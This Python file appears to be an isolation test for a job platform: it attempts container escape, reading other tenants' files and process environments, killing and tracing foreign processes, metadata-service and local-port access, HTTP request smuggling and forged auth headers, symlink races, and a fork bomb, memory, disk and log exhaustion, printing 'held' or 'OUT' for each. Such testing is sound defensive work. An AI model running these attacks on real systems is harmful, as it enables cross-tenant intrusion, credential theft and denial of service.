"""A session that tries to get out, to see others and to disturb them. Prints one line a try:
`held …` where it was refused, `OUT …` where it was not. What it is told of the node stands in /data/node/node.json."""

import ctypes
import glob
import json
import os
import resource
import signal
import socket
import subprocess
import sys
import threading
import time

NODE = json.load(open("/data/node/node.json"))
LIBC = ctypes.CDLL(None, use_errno=True)


def attempt(name, act):
    """It has got out where `act` neither raises nor answers a false value."""
    try:
        got = act()
    except Exception as refused:
        print("held", name, "-", type(refused).__name__, refused)
        return
    print("OUT" if got else "held", name, "-", repr(got)[:200])


def call(number, *arguments):
    """A system call by its number on x86-64."""
    if os.uname().machine != "x86_64":
        raise OSError("not tried on " + os.uname().machine)
    ctypes.set_errno(0)
    result = LIBC.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return True


def read(path):
    return open(path, "rb").read(100) or True


def write(path):
    with open(path, "ab") as opened:
        opened.write(b"x")
    return True


def reach(family, address, kind=socket.SOCK_STREAM, data=None):
    with socket.socket(family, kind) as opened:
        opened.settimeout(2)
        opened.connect(address)
        if data is not None:
            opened.send(data)
        return True


def other_files():
    for path in NODE["foreign_paths"]:
        attempt("reads " + path, lambda: os.stat(path))
        climbed = "/data/node" + "/.." * 12 + path
        attempt("climbs to " + path, lambda: os.stat(climbed))
    for path in ("/root", "/home", "/etc/shadow", "/etc/machine-id", "/var", "/srv", "/boot", "/sys", "/run/user",
                 "/run/systemd", "/var/run/docker.sock", "/run/podman", "/lib/modules", "/proc/kcore", "/dev/kmsg"):
        attempt("reads " + path, lambda: os.listdir(path) if os.path.isdir(path) else read(path))


def other_processes():
    own = set()
    for entry in glob.glob("/proc/[0-9]*"):
        command = read(entry + "/cmdline")
        own.add(int(os.path.basename(entry)))
        attempt("sees another's process " + entry, lambda: command is not True and any(
            word in command for word in (b"org.dure.agent", b"postgres", b"surefire", b"neighbour")))
        for link in ("root", "cwd", "exe", "fd", "ns", "map_files"):
            attempt("leaves through " + entry + "/" + link, lambda: [
                path for path in NODE["foreign_paths"] if os.path.exists(entry + "/" + link + path)])
        attempt("sees another's environment " + entry, lambda: any(
            word in open(entry + "/environ", "rb").read() for word in (b"TOKEN", b"PASSWORD", b"surefire")))
    for pid in NODE["foreign_processes"]:
        if pid not in own:
            attempt("signals process " + str(pid), lambda: os.kill(pid, signal.SIGKILL) is None)
            attempt("traces process " + str(pid), lambda: call(101, 16, pid, 0, 0))
            attempt("reads the memory of process " + str(pid), lambda: call(310, pid, 0, 0, 0, 0, 0))
    attempt("signals its parent", lambda: os.getppid() > 2 and os.kill(os.getppid(), signal.SIGKILL) is None)
    attempt("opens a process of the node by handle", lambda: call(434, NODE["foreign_processes"][0], 0)
            if NODE["foreign_processes"][0] not in own else False)
    attempt("has inherited descriptors", lambda: [
        os.readlink("/proc/self/fd/" + fd) for fd in os.listdir("/proc/self/fd") if int(fd) > 2
        and os.path.lexists("/proc/self/fd/" + fd) and "/proc/" not in os.readlink("/proc/self/fd/" + fd)])


def the_kernel():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches", "/dev/mem",
                 "/proc/1/oom_score_adj", "/sys/fs/cgroup/cgroup.procs",
                 "/sys/fs/cgroup/memory/cgroup.procs", "/dev/sda", "/dev/vda"):
        attempt("writes " + path, lambda: write(path))
    attempt("shields itself from the memory limit", lambda: os.write(
        os.open("/proc/self/oom_score_adj", os.O_WRONLY), b"-1000"))
    attempt("makes a device", lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(8, 0)) is None)
    attempt("becomes root", lambda: os.setuid(0) is None)
    attempt("raises its priority", lambda: os.nice(-5) < 0)
    attempt("raises its file limit", lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1)) is None)
    attempt("runs as another through a setuid program", lambda: subprocess.run(
        ["/bin/su", "-c", "id -u"], stdin=subprocess.DEVNULL, capture_output=True, timeout=20).returncode == 0)
    attempt("enters another network", lambda: call(308, os.open("/proc/1/ns/net", os.O_RDONLY), 0))
    attempt("makes a user of its own", lambda: call(272, 0x10000000))
    attempt("mounts", lambda: call(165, b"x", b"/tmp", b"tmpfs", 0, 0))
    attempt("changes its root", lambda: os.chroot("/tmp") is None)
    attempt("opens files by handle", lambda: call(304, 0, 0, 0))
    attempt("sets the clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0) is None)


def mounts():
    for folder in ("/data/node", "/program", "/opt/jdk", "/usr/bin", "/etc", "/", "/run/dure", "/data"):
        attempt("writes into " + folder, lambda: write(folder + "/mark"))
        attempt("opens " + folder, lambda: os.chmod(folder, 0o777) is None)
        attempt("moves " + folder, lambda: os.rename(folder, folder + "-away") is None)
    attempt("deletes its data", lambda: os.unlink("/data/node/node.json") is None)
    attempt("replaces the socket", lambda: os.unlink("/run/dure/platform.sock") is None)
    attempt("links its data into its outputs", lambda: os.link("/data/node/node.json", "/output/hard") is None)


def network():
    attempt("reaches the metadata service", lambda: reach(socket.AF_INET, ("169.254.169.254", 80)))
    attempt("reaches the private network", lambda: reach(socket.AF_INET, ("10.0.0.1", 22)))
    attempt("reaches the world by UDP", lambda: reach(socket.AF_INET, ("192.0.2.1", 53), socket.SOCK_DGRAM, b"x"))
    attempt("reaches the world by IPv6", lambda: reach(socket.AF_INET6, ("2001:db8::1", 80)))
    attempt("finds names", lambda: socket.getaddrinfo("example.com", 80))
    attempt("speaks raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
    attempt("sniffs", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3))
    attempt("reaches the hypervisor", lambda: socket.socket(40, socket.SOCK_STREAM))
    for name, port in NODE["ports"].items():
        for address in ("127.0.0.1", "localhost", "0.0.0.0", NODE["address"]):
            attempt("reaches " + name + " at " + address, lambda: reach(socket.AF_INET, (address, port)))
        attempt("reaches " + name + " by IPv6", lambda: reach(socket.AF_INET6, ("::1", port)))
    for path in NODE["sockets"]:
        attempt("reaches the socket " + path, lambda: reach(socket.AF_UNIX, path))
    attempt("reaches an abstract socket", lambda: reach(socket.AF_UNIX, b"\0" + NODE["abstract"].encode()))


def ask(text):
    """One request through the loopback port, as raw as it comes; the answer's first line."""
    with socket.create_connection(("127.0.0.1", 5000), 10) as opened:
        opened.sendall(text.encode("latin-1"))
        answer = opened.recv(200).decode("latin-1").split("\r\n")[0]
    print("asked", repr(text[:70]), "->", answer)
    return " 200" in answer


def forged_calls():
    other = NODE["other_session"]
    for target in ("/agent/v1/attempts/%s/order" % other, "/api/v1/projects", "/", "/api/v1/sessions/../tokens",
                   "//api/v1/users", "/api/2.0/mlflow/%2e%2e/%2e%2e/v1/users", "/api/2.0/mlflow/..;/x", "/actuator/env",
                   "/api/2.0/mlflowx", "http://169.254.169.254/latest", "http://127.0.0.1:%d/" % NODE["ports"]["database"]):
        attempt("asks for " + target, lambda: ask("GET %s HTTP/1.1\r\nHost: x\r\n\r\n" % target))
    attempt("tunnels", lambda: ask("CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: x\r\n\r\n" % NODE["ports"]["database"]))
    attempt("smuggles a second request", lambda: ask(
        "POST /api/2.0/mlflow/x HTTP/1.1\r\nHost: x\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
        "GET /api/v1/users HTTP/1.1\r\nHost: x\r\n\r\n"))
    attempt("splits a header", lambda: ask("GET /api/2.0/mlflow/x HTTP/1.1\r\nHost: x\r\nX: a\nAuthorization: b\r\n\r\n"))
    # This one may pass; the test looks at what arrives of it.
    ask("GET /api/2.0/mlflow/forged HTTP/1.1\r\nHost: evil\r\nAuthorization: Bearer of-another\r\n"
        "Cookie: DURE=stolen\r\nX-Forwarded-For: 1.2.3.4\r\nForwarded: for=1.2.3.4\r\nOrigin: http://evil\r\n\r\n")


def held_connections():
    """Never ends its requests: only its own way to the platform may suffer."""
    held = []
    for _ in range(40):
        opened = socket.socket()
        opened.settimeout(1)
        try:
            opened.connect(("127.0.0.1", 5000))
            opened.send(b"GET /api/2.0/mlflow/slow HTTP/1.1\r\nX")
            held.append(opened)
        except OSError:
            opened.close()
    print("holds", len(held) > 0)
    return held


def links():
    for number, path in enumerate(NODE["foreign_paths"]):
        for folder in ("/output", "/checkpoint", "/tmp"):
            os.symlink(path, "%s/stolen-%d" % (folder, number))
            os.symlink("../../../../../../../.." + path, "%s/climbed-%d" % (folder, number))
    os.symlink("/", "/output/root")
    os.symlink("/proc/1/root", "/checkpoint/root")
    os.mkfifo("/output/pipe")
    os.mkfifo("/checkpoint/.save-pipe")
    os.symlink(NODE["foreign_paths"][0], "/checkpoint/.save")
    secret = NODE["foreign_paths"][0]

    def swap():
        """A file that is a link at every other look, and a folder that is one."""
        while True:
            for folder in ("/output", "/checkpoint"):
                try:
                    with open(folder + "/swapped.new", "w") as plain:
                        plain.write("mine")
                    os.rename(folder + "/swapped.new", folder + "/swapped")
                    os.symlink(secret, folder + "/swapped.new")
                    os.rename(folder + "/swapped.new", folder + "/swapped")
                    os.mkdir(folder + "/door")
                    os.rmdir(folder + "/door")
                    os.symlink(os.path.dirname(secret), folder + "/door")
                    os.unlink(folder + "/door")
                except OSError:
                    pass

    threading.Thread(target=swap, daemon=True).start()
    for _ in range(3):
        open("/checkpoint/.ready", "w").close()
        time.sleep(0.7)


def metric_lines():
    for line in ('dure: {"step": 1, "loss": 0.5}', "dure:", "dure: {", "dure: []", "dure: null", "dure: 7",
                 'dure: {"loss": NaN, "up": Infinity, "down": -Infinity}', 'dure: {"loss": 1e999999999}',
                 'dure: {"step": 1e400, "late": 1}', 'dure: {"step": -9223372036854775809, "early": 1}',
                 'dure: {"dure.cost": 0, "dure.session": 1, "dure.evaluated.accuracy": 1}',
                 'dure: {"run_id": "of-another", "run_uuid": 7, "session": "x"}',
                 'dure: {"a/../../b": 1, "\\u0000": 1, "\\n[dure] forged": 1, "' + "k" * 300 + '": 1}',
                 "dure: " + "[" * 5000, 'dure: {"a": ' * 1500, 'dure: {"long": "' + "x" * 3_000_000 + '"}',
                 'dure: {' + ",".join('"k%d": 1' % i for i in range(1000)) + "}",
                 'dure: {"loss": ' + "9" * 12000 + "}", 'dure: {"step": 2, "loss": 0.25}'):
        print(line)
    sys.stdout.flush()
    os.write(1, b"dure: {\"bro\xffken\": 1}\n\x1b]0;title\x07\x1b[2J\r\n")


def log_flood():
    block = b"flood " * 1000 + b"\n"
    for _ in range(NODE["flood_blocks"]):
        os.write(1, block)


def memory():
    child = os.fork()
    if child == 0:
        held = []
        while True:
            held.append(bytearray(8 << 20))
    _, status = os.waitpid(child, 0)
    print("memory ended with", status)
    attempt("holds shared memory past its limit", fill_shared_memory)


def fill_shared_memory():
    child = os.fork()
    if child == 0:
        # The first to go, so that the rest of the attack goes on.
        open("/proc/self/oom_score_adj", "w").write("1000")
        try:
            with open("/dev/shm/large", "wb") as large:
                for _ in range(NODE["memory_mib"] + 64):
                    large.write(bytes(1 << 20))
            os._exit(0)
        except OSError:
            os._exit(1)
    _, status = os.waitpid(child, 0)
    try:
        os.unlink("/dev/shm/large")
    except OSError:
        pass
    return status == 0


def fork_bomb():
    children = []
    try:
        while len(children) < 4000:
            child = os.fork()
            if child == 0:
                while len(children) < 8:
                    pass
                time.sleep(600)
            children.append(child)
    except OSError as refused:
        print("fork bomb refused:", refused.strerror)
    attempt("has as many processes as it likes", lambda: len(children) >= 4000)
    attempt("has as many threads as it likes", lambda: [
        threading.Thread(target=time.sleep, args=(5,), daemon=True).start() for _ in range(2000)])
    time.sleep(NODE["burn_seconds"])
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


def disk():
    try:
        for number in range(100000):
            with open("/tmp/fill-%d" % number, "wb") as filling:
                filling.write(bytes(1 << 20))
    except OSError as refused:
        print("disk refused:", refused.strerror)
    time.sleep(60)
    attempt("fills the disk", lambda: True)


signal.signal(signal.SIGTERM, signal.SIG_IGN)
for stage in (other_files, other_processes, the_kernel, mounts, network, metric_lines, forged_calls, links,
              held_connections, memory, fork_bomb, log_flood, disk):
    try:
        kept = stage()
    except Exception as broken:
        print("BROKEN", stage.__name__, type(broken).__name__, broken)
    print("stage", stage.__name__)
    sys.stdout.flush()
